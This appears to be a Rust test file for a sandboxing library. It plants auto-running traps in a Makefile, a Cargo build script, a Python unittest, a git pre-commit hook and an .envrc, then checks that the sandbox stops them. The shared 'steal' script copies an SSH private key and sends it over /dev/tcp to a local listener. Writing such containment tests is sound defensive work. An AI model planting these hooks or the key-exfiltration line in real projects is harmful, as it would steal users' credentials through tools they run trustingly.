//! Agent-made traps: files that tools execute by themselves, and that steal when they are.
//!
//! Each is sprung outside first, where it gets the key and tells its master; in the room it
//! runs too, and gets nothing.

use std::fs;
use std::io::Read;
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use brio_confine::{Room, Workspace, toolchains};

use crate::harness::Test;

pub(crate) const TESTS: &[Test] = &[
    ("a_makefile_that_steals_gets_nothing", || sprung(&MAKEFILE)),
    ("a_build_script_that_steals_gets_nothing", || sprung(&BUILD_SCRIPT)),
    ("a_test_that_steals_gets_nothing", || sprung(&A_TEST)),
    ("a_git_hook_that_steals_gets_nothing", || sprung(&GIT_HOOK)),
    ("an_envrc_that_steals_gets_nothing", || sprung(&ENVRC)),
];

struct Trap {
    files: &'static [(&'static str, &'static str)],
    /// What an unsuspecting person runs.
    command: &'static str,
    tool: &'static str,
}

const MAKEFILE: Trap =
    Trap { files: &[("Makefile", "all:\n\tbash ./steal\n")], command: "make", tool: "make" };

const BUILD_SCRIPT: Trap = Trap {
    files: &[
        (
            "Cargo.toml",
            "[package]\nname = \"trap\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[workspace]\n",
        ),
        ("src/lib.rs", ""),
        (
            "build.rs",
            "fn main() { std::process::Command::new(\"bash\").arg(\"./steal\").status().unwrap(); }",
        ),
    ],
    command: "cargo build --offline --quiet",
    tool: "cargo",
};

const A_TEST: Trap = Trap {
    files: &[(
        "test_trap.py",
        "import subprocess, unittest\nclass T(unittest.TestCase):\n    def test(self):\n        subprocess.run(['bash', './steal'])\n",
    )],
    command: "python3 -m unittest --quiet test_trap",
    tool: "python3",
};

const GIT_HOOK: Trap = Trap {
    files: &[(".git-hook", "#!/bin/sh\nbash ./steal\n")],
    command: "git init -q . && mv .git-hook .git/hooks/pre-commit && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x",
    tool: "git",
};

/// As direnv does when a person enters the directory.
const ENVRC: Trap =
    Trap { files: &[(".envrc", "bash ./steal\n")], command: "bash -c '. ./.envrc'", tool: "bash" };

/// Notes that it ran, takes the key, phones home with it.
const STEAL: &str = r#"
echo yes > sprung
cat "$HOME/.ssh/id_ed25519" > loot || cat HOME/.ssh/id_ed25519 > loot
exec 3<>/dev/tcp/127.0.0.1/PORT && cat loot >&3
exit 0
"#;

const KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY-----";

fn project(trap: &Trap, home: &Path, port: u16) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let steal = STEAL
        .replace("PORT", &port.to_string())
        .replace(" HOME/", &format!(" {}/", home.display()));
    for (name, text) in trap.files.iter().chain([&("steal", steal.as_str())]) {
        let path = dir.path().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, text).unwrap();
        fs::set_permissions(&path, PermissionsExt::from_mode(0o755)).unwrap();
    }
    dir
}

/// What was told to whoever set the trap.
fn master() -> (u16, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let told = Arc::new(Mutex::new(Vec::new()));
    let tell = Arc::clone(&told);
    std::thread::spawn(move || {
        for mut call in listener.incoming().flatten() {
            let mut text = String::new();
            let _ = call.read_to_string(&mut text);
            tell.lock().unwrap().push(text);
        }
    });
    (port, told)
}

fn sprung(trap: &Trap) -> Result<(), String> {
    let home = tempfile::tempdir_in("/var/tmp").unwrap();
    fs::create_dir(home.path().join(".ssh")).unwrap();
    fs::write(home.path().join(".ssh/id_ed25519"), KEY).unwrap();
    let own = |name: &str| std::env::var_os(name);
    // The person's toolchains, with the home of this test.
    let real = own("HOME").map(PathBuf::from).unwrap_or_default();
    let mut env =
        vec![("HOME".into(), home.path().into()), ("PATH".into(), own("PATH").unwrap_or_default())];
    for (name, below) in
        [("CARGO_HOME", ".cargo"), ("RUSTUP_HOME", ".rustup"), ("PYENV_ROOT", ".pyenv")]
    {
        env.push((name.into(), own(name).unwrap_or_else(|| real.join(below).into())));
    }
    let shell = |script: &str, dir: &Path| {
        let mut command = Command::new("sh");
        command.args(["-c", script]).current_dir(dir).env_clear().envs(env.clone());
        command.output().unwrap()
    };
    if !shell(&format!("{} --version", trap.tool), Path::new("/")).status.success() {
        return Err(format!("{} is not there for this user", trap.tool));
    }

    let (port, told) = master();
    let outside = project(trap, home.path(), port);
    let done = shell(trap.command, outside.path());
    let said = String::from_utf8_lossy(&done.stderr);
    assert_eq!(fs::read_to_string(outside.path().join("loot")).unwrap_or_default(), KEY, "{said}");
    std::thread::sleep(Duration::from_millis(100));
    assert_eq!(*told.lock().unwrap(), [KEY], "outside, the trap works");

    let inside = project(trap, home.path(), port);
    let path = inside.path().canonicalize().unwrap();
    let found = toolchains(|name| env.iter().find(|(n, _)| n == name).map(|(_, v)| v.clone()));
    let room = Room::new(Workspace::Bind { source: path.clone(), path: path.clone() });
    let room = room.home(home.path()).binds(found.binds);
    let mut command = brio_confine::Command::new(["/bin/sh", "-c", trap.command]);
    command.env = env.clone();
    let (out, err) =
        (tempfile::tempfile().unwrap(), fs::File::create_new(path.join("err")).unwrap());
    command.stdout = brio_confine::Stdio::Descriptor(out.into());
    command.stderr = brio_confine::Stdio::Descriptor(err.into());
    room.spawn(command).unwrap().wait().unwrap();
    let said = fs::read_to_string(path.join("err")).unwrap();
    assert!(path.join("sprung").exists(), "in the room it did not even run: {said}");
    assert_eq!(fs::read_to_string(path.join("loot")).unwrap(), "", "{said}");
    std::thread::sleep(Duration::from_millis(100));
    assert_eq!(told.lock().unwrap().len(), 1, "the trap in the room phoned home");
    Ok(())
}
